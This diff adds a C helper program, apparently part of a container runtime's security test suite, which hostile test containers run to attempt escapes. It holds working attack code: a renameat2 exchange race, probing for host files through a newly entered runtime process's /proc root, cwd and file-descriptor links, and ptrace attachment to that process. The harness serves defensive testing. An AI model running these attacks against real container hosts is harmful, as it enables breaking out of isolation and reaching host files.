@@ -1,0 +1,202 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * What hostile containers run: each verb is one attack, bounded in time, that tells on stdout what it got. Tests
+ * say what it should have got.
+ */
+#include <errno.h>
+#include <fcntl.h>
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#ifndef RENAME_EXCHANGE
+#define RENAME_EXCHANGE 2
+#endif
+
+static double now(void)
+{
+	struct timespec t;
+
+	clock_gettime(CLOCK_MONOTONIC, &t);
+	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
+}
+
+/* exchange A B SECONDS: swaps the two names as fast as it can. */
+static int exchange(char **a)
+{
+	double end = now() + atof(a[2]);
+	unsigned long rounds = 0;
+
+	while (now() < end) {
+		for (int i = 0; i < 50; i++, rounds++)
+			if (syscall(SYS_renameat2, AT_FDCWD, a[0], AT_FDCWD, a[1], RENAME_EXCHANGE))
+				return perror("renameat2"), 1;
+	}
+	printf("%lu rounds\n", rounds & ~1UL);
+	return 0;
+}
+
+struct finds {
+	unsigned seen, exe, reached;
+	char how[128];
+};
+
+static bool is_runtime(int pid)
+{
+	char path[64], comm[32] = "";
+	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
+	int fd = open(path, O_RDONLY);
+
+	if (fd < 0)
+		return false;
+	ssize_t n = read(fd, comm, sizeof(comm) - 1);
+	close(fd);
+	/* Executed by descriptor, older kernels call it by the number. */
+	return n > 0 && (strncmp(comm, "tare-runtime", 12) == 0 || (*comm >= '0' && *comm <= '9'));
+}
+
+static void try_exe(int pid, struct finds *f)
+{
+	char path[64], target[256];
+
+	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+	ssize_t n = readlink(path, target, sizeof(target) - 1);
+	if (n <= 0)
+		return;
+	target[n] = 0;
+	/* Not what it has become meanwhile. */
+	f->exe += strstr(target, "busybox") == NULL && is_runtime(pid);
+}
+
+/* Whether the host's file can be had through a directory this process holds. */
+static bool try_way(int pid, const char *way, const char *file, struct finds *f)
+{
+	char path[512];
+
+	snprintf(path, sizeof(path), "/proc/%d/%s/../../../../../../../../../..%s", pid, way, file);
+	int fd = open(path, O_RDONLY);
+	if (fd < 0)
+		return false;
+	close(fd);
+	if (!f->reached++)
+		snprintf(f->how, sizeof(f->how), "%s", way);
+	return true;
+}
+
+static void look_into(int pid, const char *file, struct finds *f)
+{
+	char way[16];
+
+	try_exe(pid, f);
+	if (try_way(pid, "root", file, f) || try_way(pid, "cwd", file, f))
+		return;
+	for (int fd = 0; fd < 24; fd++) {
+		snprintf(way, sizeof(way), "fd/%d", fd);
+		if (try_way(pid, way, file, f))
+			return;
+	}
+}
+
+/* The newest process of this pid namespace. */
+static int last_pid(void)
+{
+	char text[128] = "";
+	int fd = open("/proc/loadavg", O_RDONLY);
+
+	if (fd < 0 || read(fd, text, sizeof(text) - 1) <= 0)
+		exit(1);
+	close(fd);
+	char *last = strrchr(text, ' ');
+	return last ? atoi(last) : 0;
+}
+
+/*
+ * peek SECONDS FILE: watches for processes that come into this pid namespace while they are still the runtime, and
+ * tries to get at FILE of the host by way of what they hold.
+ */
+static int peek(char **a)
+{
+	double end = now() + atof(a[0]);
+	struct finds f = { 0 };
+
+	printf("ready\n");
+	fflush(stdout);
+	while (now() < end) {
+		bool seen = false;
+		int pid = last_pid() + 1;
+		for (int tries = 0; tries < 100 && !seen; tries++)
+			seen = is_runtime(pid);
+		f.seen += seen;
+		while (seen && is_runtime(pid) && now() < end)
+			look_into(pid, a[1], &f);
+	}
+	printf("seen %u exe %u reached %u %s\n", f.seen, f.exe, f.reached, f.how);
+	return 0;
+}
+
+/* look PID FILE: the same for one process that stands still. */
+static int look(char **a)
+{
+	struct finds f = { 0 };
+
+	look_into(atoi(a[0]), a[1], &f);
+	printf("seen %d exe %u reached %u %s\n", is_runtime(atoi(a[0])), f.exe, f.reached, f.how);
+	return 0;
+}
+
+/*
+ * trace SECONDS: as peek, but attaches with ptrace. A process that is traced while it is still the runtime would do
+ * whatever the tracer wants, with the rights it still has.
+ */
+static int trace(char **a)
+{
+	double end = now() + atof(a[0]);
+	unsigned seen = 0, traced = 0;
+
+	printf("ready\n");
+	fflush(stdout);
+	while (now() < end) {
+		bool hit = false;
+		int pid = last_pid() + 1;
+		for (int tries = 0; tries < 100 && !hit; tries++)
+			hit = is_runtime(pid);
+		seen += hit;
+		while (hit && is_runtime(pid) && now() < end) {
+			if (ptrace(PTRACE_SEIZE, pid, 0, 0))
+				continue;
+			traced += is_runtime(pid);
+			ptrace(PTRACE_INTERRUPT, pid, 0, 0);
+			waitpid(pid, NULL, __WALL);
+			ptrace(PTRACE_DETACH, pid, 0, 0);
+		}
+	}
+	printf("seen %u traced %u\n", seen, traced);
+	return 0;
+}
+
+static const struct verb {
+	const char *name;
+	int args;
+	int (*run)(char **args);
+} verbs[] = {
+	{ "exchange", 3, exchange },
+	{ "peek", 2, peek },
+	{ "look", 2, look },
+	{ "trace", 1, trace },
+};
+
+int main(int argc, char **argv)
+{
+	for (size_t i = 0; i < sizeof(verbs) / sizeof(verbs[0]) && argc > 1; i++)
+		if (strcmp(verbs[i].name, argv[1]) == 0 && argc == 2 + verbs[i].args)
+			return verbs[i].run(argv + 2);
+	fprintf(stderr, "usage: attacker VERB ARGUMENTS…\n");
+	return 2;
+}
